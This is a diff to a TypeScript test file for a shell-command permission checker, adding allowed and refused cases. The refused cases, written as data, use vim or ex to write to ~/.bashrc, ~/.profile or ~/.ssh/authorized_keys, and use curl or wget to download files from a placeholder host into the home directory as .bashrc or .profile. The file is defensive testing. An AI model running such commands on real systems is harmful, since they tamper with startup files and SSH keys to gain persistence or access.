@@ -150,10 +150,51 @@ test('neighbours: inherited values, the project, fetched data printed stay admit
     'git -C packages/app status',
     'git -C "$(git rev-parse --show-toplevel)" status',
     'd=$(mktemp -d); cd $d && git init && git status',
+    "vim -c 'set ft=yaml' -c wq config.yml",
+    "ex -s a.txt <<< $'%s/a/b/g\\nwq'",
+    'curl -sSLO https://x.io/a.tar.gz',
+    'wget https://x.io/releases/v1/tool.tar.gz',
+    'wget -P downloads https://x.io/a.tgz',
+    'curl --output-dir dl -O https://x.io/a.tgz',
+    'cd /tmp && wget https://x.io/a.tgz',
     `python3 -c ${q('import requests; print(requests.get("https://api.github.com").json())')}`,
     `node -e ${q('fetch("https://x.io").then(r=>r.json()).then(console.log)')}`,
     `python3 -c ${q('import urllib.request as u; print(u.urlopen("https://x.io/a").read())')}`,
   ]);
+});
+
+test('found while hunting: vi writing its own file by a write that names none is read as that write', () => {
+  // `-c wq`, `+x`, `norm ZZ`, and ex's input (`<<< wq`) write the files vim edits: a guarded one refused.
+  floor.shareRefused(
+    fc.tuple(
+      fc.constantFrom('vim', 'vi', 'nvim', 'ex', 'vim -es', 'ex -s'),
+      fc.constantFrom("-c 'norm Gox' -c wq", '+wq', "-c 'x'", "-c 'norm ZZ'", "-c 'silent! wq!'", "-c 'a|x'"),
+      fc.constantFrom('~/.bashrc', '"$HOME/.profile"', '~/.ssh/authorized_keys', '-- ~/.zshrc'),
+    ),
+    ([vim, cmd, file]) => `${vim} ${cmd} ${file}`,
+  );
+  floor.allDecided('DENY', [
+    "ex -s ~/.bashrc <<< $'a\\nx\\n.\\nwq'",
+    'printf "%s\\n" "\\$a" x . wq | ex -s ~/.bashrc',
+  ]);
+});
+
+test('found while hunting: a download named by its URL or placed under an output directory', () => {
+  // curl's `-O` and wget's default name the file by the URL's last segment; `--output-dir`/`-P` place it.
+  floor.shareRefused(
+    fc.tuple(
+      fc.constantFrom(
+        (u: string) => `cd ~ && curl -sSLO ${u}`,
+        (u: string) => `curl --output-dir ~ -O ${u}`,
+        (u: string) => `curl --output-dir "$HOME" -o .bashrc ${u}`,
+        (u: string) => `wget -P ~ ${u}`,
+        (u: string) => `wget --directory-prefix=$HOME ${u}`,
+        (u: string) => `cd; wget -q -o log ${u}`,
+      ),
+      fc.constantFrom('https://x.io/.bashrc', 'http://x.io/a/.profile?x=1', 'x.io/.bashrc'),
+    ),
+    ([at, u]) => at(u),
+  );
 });
 
 /** Each new reading's literals, repeated: decided in bounded CPU. */
@@ -164,6 +205,8 @@ const LONG: readonly floor.LongCommand[] = [
   ['git ', '-C a ', 'status'],
   ["python3 -c '", 'urlopen(x) ', "exec(y)'"],
   ['', 'd=$x; PATH=$d ', 'ls'],
+  ['vim ', '-c wq a ', 'b'],
+  ['curl -O ', 'x.io/a/b ', '--output-dir d'],
 ];
 
 floor.linearAndThroughProcess(LONG, 'NODE_OPTIONS="$(cat f)" node a.js');
